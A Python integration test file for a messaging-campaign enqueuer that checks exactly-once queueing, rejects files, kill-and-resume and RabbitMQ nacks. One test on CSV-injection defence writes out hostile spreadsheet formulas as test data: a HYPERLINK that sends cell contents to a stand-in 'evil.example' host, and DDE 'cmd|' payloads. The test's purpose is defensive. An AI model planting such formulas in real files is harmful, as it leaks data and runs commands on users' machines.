"""``campaign start`` against real RabbitMQ and Redis: every row once, rejects, kill and resume."""

from __future__ import annotations

import csv
import json
import os
import shutil
import signal
import subprocess
import sys
import textwrap
import time
import zlib
from collections import Counter
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import unquote, urlsplit

import dramatiq
import pika
import pytest
from click.testing import CliRunner

from tests.integration.conftest import AMQP_URL, REDIS_URL, TEST_POLICY_PREFIX, redis_client
from worker.campaigns.enqueue import CampaignEnqueueError, enqueue_campaign
from worker.campaigns.spec import CampaignSpec
from worker.campaigns.store import CampaignRef, CampaignStore
from worker.commands.campaign import start
from worker.jobs.models import CAMPAIGN_QUEUE
from worker.jobs.producer import queue_arguments
from worker.jobs.registry import parse_job

ROOT = Path(__file__).resolve().parents[2]
PHONES = ("phone-a", "phone-b", "phone-c")


def number(n: int) -> str:
    return f"+9198{n:08d}"


def write_csv(path: Path, rows: int, *, bad_every: int = 0, blank_every: int = 0) -> list[int]:
    """A campaign file; returns the numbers (n) of its good rows."""
    good = []
    with path.open("w", encoding="utf-8", newline="") as handle:
        handle.write("to,body_1,body_2,header_1\n")
        for n in range(1, rows + 1):
            if blank_every and n % blank_every == 0:
                handle.write("\n")
            elif bad_every and n % bad_every == 0:
                handle.write(f"12{n},Name {n},{n},Hi\n")
            else:
                handle.write(f"{number(n)},Name {n},{n},Hi\n")
                good.append(n)
    return good


def spec(campaign_id: str = "camp-it", template: str = "diwali_offer") -> CampaignSpec:
    return CampaignSpec(campaign_id, "acme", PHONES, template, "en_US", 2)


def store() -> CampaignStore:
    return CampaignStore(redis_client(REDIS_URL, decode_responses=True))


def expected_kwargs(n: int, campaign_id: str = "camp-it") -> dict[str, Any]:
    to = number(n)
    return {
        "client_id": "acme",
        "phone_id": PHONES[zlib.crc32(to.encode()) % len(PHONES)],
        "to": to,
        "campaign_id": campaign_id,
        "message": {
            "type": "template",
            "template": {
                "name": "diwali_offer",
                "language": {"code": "en_US"},
                "components": [
                    {"type": "header", "parameters": [{"type": "text", "text": "Hi"}]},
                    {
                        "type": "body",
                        "parameters": [
                            {"type": "text", "text": f"Name {n}"},
                            {"type": "text", "text": str(n)},
                        ],
                    },
                ],
            },
        },
    }


def drain() -> list[tuple[Any, dict[str, Any]]]:
    """Every message on the campaign queue (removed), with its properties."""
    connection = pika.BlockingConnection(pika.URLParameters(AMQP_URL))
    try:
        channel = connection.channel()
        channel.basic_qos(prefetch_count=1000)
        found = []
        for method, properties, body in channel.consume(
            CAMPAIGN_QUEUE, auto_ack=True, inactivity_timeout=1.5
        ):
            if method is None:
                break
            found.append((properties, json.loads(body)))
        channel.cancel()
        left = channel.queue_declare(
            CAMPAIGN_QUEUE, durable=True, arguments=queue_arguments(CAMPAIGN_QUEUE), passive=True
        ).method.message_count
        assert left == 0
        return found
    finally:
        connection.close()


def queue_depth() -> int:
    connection = pika.BlockingConnection(pika.URLParameters(AMQP_URL))
    try:
        return int(
            connection.channel().queue_declare(CAMPAIGN_QUEUE, passive=True).method.message_count
        )
    finally:
        connection.close()


def run_cli(*args: str, amqp_url: str = AMQP_URL) -> Any:
    return CliRunner().invoke(
        start,
        list(args),
        env={"AMQP_URL": amqp_url, "REDIS_URL": REDIS_URL, "VERLOOP_WORKER_ENV_FILE": None},
        catch_exceptions=False,
    )


# --------------------------------------------------------------------------------------------------
def test_every_row_is_on_the_queue_once_with_the_right_job(tmp_path: Path) -> None:
    path = tmp_path / "campaign.csv"
    good = write_csv(path, 3000)
    result = enqueue_campaign(path, spec(), amqp_url=AMQP_URL, store=store(), batch_size=250)
    assert (result.rows_read, result.enqueued, result.rejected, result.blank) == (3000, 3000, 0, 0)
    assert result.rejects_path is None

    messages = drain()
    assert len(messages) == 3000
    by_to = {envelope["kwargs"]["to"]: (props, envelope) for props, envelope in messages}
    assert len(by_to) == 3000
    for n in good:
        props, envelope = by_to[number(n)]
        assert envelope["kwargs"] == expected_kwargs(n)
        assert envelope["actor_name"] == "send_message"
        assert envelope["queue_name"] == CAMPAIGN_QUEUE
        assert props.delivery_mode == 2
        assert props.content_type == "application/json"
        assert props.message_id == envelope["message_id"]
    # The worker's own decoding and validation take them as they are.
    sample = messages[0][1]
    message = dramatiq.Message.decode(json.dumps(sample).encode())
    parse_job(message.actor_name, message.args, message.kwargs)
    assert len({envelope["message_id"] for _, envelope in messages}) == 3000

    fields = store().get(CampaignRef("acme", "camp-it")).fields
    assert fields["rows_done"] == fields["enqueued"] == fields["total_rows"] == "3000"
    assert fields["rejected"] == "0"
    assert "enqueue_finished" in fields


def test_bad_rows_go_to_the_rejects_file_with_their_reason(tmp_path: Path) -> None:
    path = tmp_path / "mixed.csv"
    raw = (
        "to,body_1,body_2\n"
        "+919876543210,Asha,1\n"  # 1 good
        "9876543210,Ravi,2\n"  # 2 no country code
        "+919876543211,Only one,\n"  # 3 one parameter
        "\n"  # 4 blank
        "+919876543212,Too,many,fields\n"  # 5
        # 6: full-width digits
        "+\uff19\uff11\uff19\uff18\uff17\uff16\uff15\uff14\uff13\uff12\uff11\uff13,Wide,4\n"
        "+91\u200f9876543214,Bidi,5\n"  # 7 right-to-left mark
        "+919876543215,Tamil: வணக்கம் 🎉,6\n"  # 8 good, odd but fine parameter text
        "+91987654321,Short,7\n"  # 9 invalid number
        "+919876543216\n"  # 10 missing columns
    ).encode() + b"+919876543217,caf\xe9,8\n"  # 11 not UTF-8
    path.write_bytes(raw)
    out = run_cli(
        str(path),
        "--client-id",
        "acme",
        "--phone-id",
        "phone-a",
        "--template",
        "diwali_offer",
        "--campaign-id",
        "mixed",
        "--no-progress",
    )
    assert out.exit_code == 0, out.output
    assert "rows read  11" in out.output
    assert "enqueued   2" in out.output
    assert "rejected   8" in out.output
    assert "blank      1" in out.output
    assert "9876543210" not in out.output  # no recipient is printed

    rejects = tmp_path / "mixed.csv.rejects.csv"
    with rejects.open(encoding="utf-8", errors="surrogateescape", newline="") as handle:
        records = list(csv.reader(handle))
    assert records[0] == ["row", "reason", "to", "body_1", "body_2"]
    reasons = {int(r[0]): r[1] for r in records[1:]}
    assert sorted(reasons) == [2, 3, 5, 6, 7, 9, 10, 11]
    assert reasons[2].startswith("to: must be in E.164 form")
    assert reasons[3] == "has 1 body parameters; the template takes 2"
    assert reasons[5] == "has 4 fields; the header has 3"
    assert reasons[6].startswith("to: may contain only ASCII digits")
    assert reasons[7].startswith("to: may contain only ASCII digits")
    assert reasons[9].startswith("to: is not a valid phone number")
    assert reasons[10] == "has 1 fields; the header has 3"
    assert reasons[11] == "not valid UTF-8"
    # The operator's own values come back unchanged, to be fixed and sent again.
    assert records[1][2:] == ["9876543210", "Ravi", "2"]
    assert b"'+919876543217,caf\xe9,8" in rejects.read_bytes()  # a + cell gets a quote
    assert rejects.stat().st_mode & 0o777 == 0o600  # it holds recipients: the owner's only

    sent = sorted(envelope["kwargs"]["to"] for _, envelope in drain())
    assert sent == ["+919876543210", "+919876543215"]
    fields = store().get(CampaignRef("acme", "mixed")).fields
    assert (fields["rows_done"], fields["enqueued"], fields["rejected"]) == ("11", "2", "8")


def test_the_rejects_file_s_row_numbering_is_said_where_the_user_meets_it(
    tmp_path: Path,
) -> None:
    """The rejects file's ``row`` is not the file's line (the header is not counted): the
    summary that points to the file, and ``--help``, say which numbering it is."""
    path = tmp_path / "one-bad.csv"
    path.write_text("to,body_1\n+919876543210,Asha\n12345,Ravi\n", encoding="utf-8")
    out = run_cli(
        str(path),
        *("--client-id", "acme", "--phone-id", "phone-a", "--template", "diwali_offer"),
        *("--campaign-id", "one-bad", "--no-progress"),
    )
    assert out.exit_code == 0, out.output
    assert "rejected   1" in out.output
    assert "'row' counts data rows from 1, the header not counted" in out.output
    rejects = (tmp_path / "one-bad.csv.rejects.csv").read_text(encoding="utf-8").splitlines()
    assert rejects[1].startswith("2,")  # the second data row, on the file's third line
    help_text = " ".join(run_cli("--help").output.split())
    assert "'row' column counts data rows from 1, the CSV header not counted" in help_text
    assert "row's number among the data rows, from 1, the header not counted" in help_text


def test_rejected_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text(
    tmp_path: Path,
) -> None:
    """CSV injection: a cell starting with =, +, -, @, tab or CR gets a single quote in front
    in the rejects file (OWASP's defence); other cells are copied as they were."""
    dangerous = [
        '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
        "+919876543210",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+2",
        "\r=1+2",
    ]
    path = tmp_path / "hostile.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["to", "body_1", "body_2"])
        writer.writerow([dangerous[0], "Asha", "1"])  # not a number
        writer.writerow(["+919876543210", dangerous[2], ""])  # one parameter short
        writer.writerow(["12345", dangerous[3], dangerous[4]])  # not E.164
        writer.writerow([dangerous[5], "plain", "2"])  # not a number
        writer.writerow(["+919876543211", "Ravi", "3"])  # good
    result = enqueue_campaign(path, spec(), amqp_url=AMQP_URL, store=store())
    assert (result.enqueued, result.rejected) == (1, 4)

    with (tmp_path / "hostile.csv.rejects.csv").open(encoding="utf-8", newline="") as handle:
        records = list(csv.reader(handle))
    assert records[0] == ["row", "reason", "to", "body_1", "body_2"]
    values = [record[2:] for record in records[1:]]
    assert values == [
        ["'" + dangerous[0], "Asha", "1"],
        ["'+919876543210", "'" + dangerous[2], ""],
        ["12345", "'" + dangerous[3], "'" + dangerous[4]],
        ["'" + dangerous[5], "plain", "2"],
    ]
    cells = [cell for record in records for cell in record]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_usage_errors_exit_2_before_anything_is_enqueued(tmp_path: Path) -> None:
    path = tmp_path / "nohead.csv"
    path.write_text("phone,body_1\n+919876543210,a\n")
    out = run_cli(str(path), "--client-id", "acme", "--phone-id", "p", "--template", "t")
    assert out.exit_code == 2
    assert "unknown column 'phone'" in out.output
    assert "Traceback" not in out.output
    out = run_cli(
        str(path), "--client-id", "acme", "--phone-id", "p", "--template", "t", "--timezone", "X/Y"
    )
    assert out.exit_code == 2
    assert "unknown time zone" in out.output


def test_unreachable_rabbitmq_fails_with_one_masked_line(tmp_path: Path) -> None:
    path = tmp_path / "c.csv"
    write_csv(path, 5)
    out = run_cli(
        str(path),
        "--client-id",
        "acme",
        "--phone-id",
        "p",
        "--template",
        "t",
        "--no-progress",
        amqp_url="amqp://guest:s3cret-password@127.0.0.1:1/%2F",
    )
    assert out.exit_code == 1
    assert "cannot connect to RabbitMQ" in out.output
    assert "s3cret-password" not in out.output
    assert "Traceback" not in out.output


def test_schedule_is_stored_and_a_finished_campaign_is_not_enqueued_again(
    tmp_path: Path,
) -> None:
    path = tmp_path / "c.csv"
    write_csv(path, 50)
    args = [str(path), "--client-id", "acme", "--phone-id", "phone-a", "--template", "t"]
    schedule = ["--window", "09:00-21:00", "--timezone", "Asia/Kolkata"]
    first = run_cli(*args, *schedule, "--start-at", "2026-12-01T09:00", "--no-progress")
    assert first.exit_code == 0, first.output
    assert queue_depth() == 50
    [campaign] = store().list()
    assert campaign.fields["window_start"] == "09:00"
    assert campaign.fields["window_end"] == "21:00"
    assert campaign.fields["timezone"] == "Asia/Kolkata"
    assert float(campaign.fields["start_at"]) == 1796095800.0  # 09:00 IST is 03:30 UTC
    assert store().gate(campaign.ref)[1] == ("09:00", "21:00", "Asia/Kolkata")

    again = run_cli(*args, "--no-progress")  # same file and template: the same campaign
    assert again.exit_code == 0
    assert "already enqueued" in again.output
    assert queue_depth() == 50

    other = run_cli(*args[:-1], "other_template", "--campaign-id", campaign.campaign_id)
    assert other.exit_code == 2
    assert "different template" in other.output
    assert queue_depth() == 50


CHILD = textwrap.dedent(
    """
    import sys, time
    from pathlib import Path
    import redis
    from worker.campaigns.enqueue import CampaignEnqueueError, enqueue_campaign
    from worker.campaigns.spec import CampaignSpec
    from worker.campaigns.store import CampaignStore

    path, amqp_url, redis_url, phones = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4]
    enqueue_campaign(
        Path(path),
        CampaignSpec("camp-it", "acme", tuple(phones.split(",")), "diwali_offer", "en_US", 2),
        amqp_url=amqp_url,
        store=CampaignStore(redis.Redis.from_url(redis_url, decode_responses=True)),
        batch_size=int(sys.argv[5]),
        progress=lambda b, r: time.sleep(0.05),  # slow enough to be killed half-way
    )
    """
)


def test_killed_mid_file_then_resumed_enqueues_every_row(tmp_path: Path) -> None:
    path = tmp_path / "big.csv"
    total, batch = 10_000, 200
    good = write_csv(path, total, bad_every=97, blank_every=501)
    bad = [n for n in range(1, total + 1) if n % 97 == 0 and n % 501 != 0]
    child = subprocess.Popen(
        [sys.executable, "-c", CHILD, str(path), AMQP_URL, REDIS_URL, ",".join(PHONES), str(batch)],
        cwd=ROOT,
        env={**os.environ, "PYTHONPATH": str(ROOT)},
    )
    cache = redis_client(REDIS_URL, decode_responses=True)
    try:
        deadline = time.monotonic() + 60
        while int(cache.hget(CampaignRef("acme", "camp-it").key, "rows_done") or 0) < 2000:
            assert child.poll() is None, "the enqueuer exited before it was killed"
            assert time.monotonic() < deadline, "no checkpoint in 60 s"
            time.sleep(0.01)
        child.send_signal(signal.SIGKILL)
        child.wait(timeout=10)
    finally:
        if child.poll() is None:
            child.kill()
            child.wait()
    fields = store().get(CampaignRef("acme", "camp-it")).fields
    assert "enqueue_finished" not in fields
    checkpoint = int(fields["rows_done"])
    assert 2000 <= checkpoint < total

    result = enqueue_campaign(path, spec(), amqp_url=AMQP_URL, store=store(), batch_size=batch)
    assert result.resumed
    assert result.skipped == checkpoint
    assert (result.rows_read, result.enqueued, result.rejected) == (total, len(good), len(bad))
    assert result.blank == total - len(good) - len(bad)

    counts = Counter(envelope["kwargs"]["to"] for _, envelope in drain())
    assert set(counts) == {number(n) for n in good}  # no row missing, no bad row sent
    duplicated = sum(counts.values()) - len(counts)
    assert duplicated <= batch  # at most one batch published twice

    fields = store().get(CampaignRef("acme", "camp-it")).fields
    assert fields["enqueued"] == str(len(good))
    assert fields["rejected"] == str(len(bad))
    assert fields["rows_done"] == fields["total_rows"] == str(total)

    # Each bad row is in the rejects file exactly once, though the kill came mid-way.
    with (tmp_path / "big.csv.rejects.csv").open(newline="") as handle:
        rows = [int(r[0]) for r in list(csv.reader(handle))[1:]]
    assert rows == bad

    again = enqueue_campaign(path, spec(), amqp_url=AMQP_URL, store=store(), batch_size=batch)
    assert again.already_finished
    assert queue_depth() == 0


@pytest.mark.parametrize("fmt", ["jsonl"])
def test_json_lines_file(tmp_path: Path, fmt: str) -> None:
    path = tmp_path / f"c.{fmt}"
    lines = [
        {"to": number(n), "body": [f"Name {n}", str(n)], "header": ["Hi"]} for n in range(1, 101)
    ]
    lines[10] = {"to": "+91", "body": ["x", "y"]}
    path.write_text("\n".join(json.dumps(line) for line in lines) + "\n")
    result = enqueue_campaign(path, spec(), amqp_url=AMQP_URL, store=store())
    assert (result.enqueued, result.rejected) == (99, 1)
    messages = {envelope["kwargs"]["to"]: envelope["kwargs"] for _, envelope in drain()}
    assert len(messages) == 99
    assert messages[number(5)] == expected_kwargs(5)


def _vhost() -> str:
    return unquote(urlsplit(AMQP_URL).path.lstrip("/")) or "/"


#: Cleared at the next run's start if this run is killed before clearing it.
POLICY = f"{TEST_POLICY_PREFIX}nack"


@pytest.fixture
def reject_publish_over_100() -> Iterator[None]:
    """A policy making RabbitMQ nack publishes once the campaign queue holds 100 messages."""
    ctl = shutil.which("rabbitmqctl")
    if ctl is None:
        pytest.skip("needs rabbitmqctl to set a queue policy")
    policy = json.dumps({"max-length": 100, "overflow": "reject-publish"})
    subprocess.run(
        [
            ctl,
            "-q",
            "set_policy",
            "-p",
            _vhost(),
            "--apply-to",
            "queues",
            POLICY,
            f"^{CAMPAIGN_QUEUE}$",
            policy,
        ],
        check=True,
        capture_output=True,
    )
    try:
        yield
    finally:
        subprocess.run([ctl, "-q", "clear_policy", "-p", _vhost(), POLICY], capture_output=True)


def test_a_nack_fails_the_run_and_the_checkpoint_stays_before_it(
    tmp_path: Path, reject_publish_over_100: None
) -> None:
    path = tmp_path / "c.csv"
    good = write_csv(path, 600)
    with pytest.raises(CampaignEnqueueError, match=r"refused \(nack\) row\(s\) 101\b") as info:
        enqueue_campaign(path, spec(), amqp_url=AMQP_URL, store=store(), batch_size=50)
    assert "run the same command again to resume" in str(info.value)
    fields = store().get(CampaignRef("acme", "camp-it")).fields
    assert int(fields["rows_done"]) <= 100  # never past a row RabbitMQ did not take
    assert "enqueue_finished" not in fields
    on_queue = {envelope["kwargs"]["to"] for _, envelope in drain()}
    assert len(on_queue) == 100
    # Every row the checkpoint covers is on the queue.
    assert {number(n) for n in good[: int(fields["rows_done"])]} <= on_queue


def test_ctrl_c_waits_for_confirms_so_a_resume_publishes_nothing_twice(tmp_path: Path) -> None:
    path = tmp_path / "c.csv"
    good = write_csv(path, 6000, bad_every=101)
    child = subprocess.Popen(
        [sys.executable, "-c", CHILD, str(path), AMQP_URL, REDIS_URL, ",".join(PHONES), "500"],
        cwd=ROOT,
        env={**os.environ, "PYTHONPATH": str(ROOT)},
        stderr=subprocess.DEVNULL,
    )
    cache = redis_client(REDIS_URL, decode_responses=True)
    try:
        deadline = time.monotonic() + 60
        while int(cache.hget(CampaignRef("acme", "camp-it").key, "rows_done") or 0) < 1000:
            assert child.poll() is None, "the enqueuer exited before Ctrl-C"
            assert time.monotonic() < deadline, "no checkpoint in 60 s"
            time.sleep(0.01)
        child.send_signal(signal.SIGINT)
        assert child.wait(timeout=30) != 0
    finally:
        if child.poll() is None:
            child.kill()
            child.wait()
    fields = store().get(CampaignRef("acme", "camp-it")).fields
    assert "enqueue_finished" not in fields
    assert queue_depth() == int(fields["enqueued"])  # everything in flight was confirmed

    result = enqueue_campaign(path, spec(), amqp_url=AMQP_URL, store=store(), batch_size=500)
    assert result.enqueued == len(good)
    counts = Counter(envelope["kwargs"]["to"] for _, envelope in drain())
    assert sorted(counts) == sorted(number(n) for n in good)
    assert set(counts.values()) == {1}  # not one duplicate
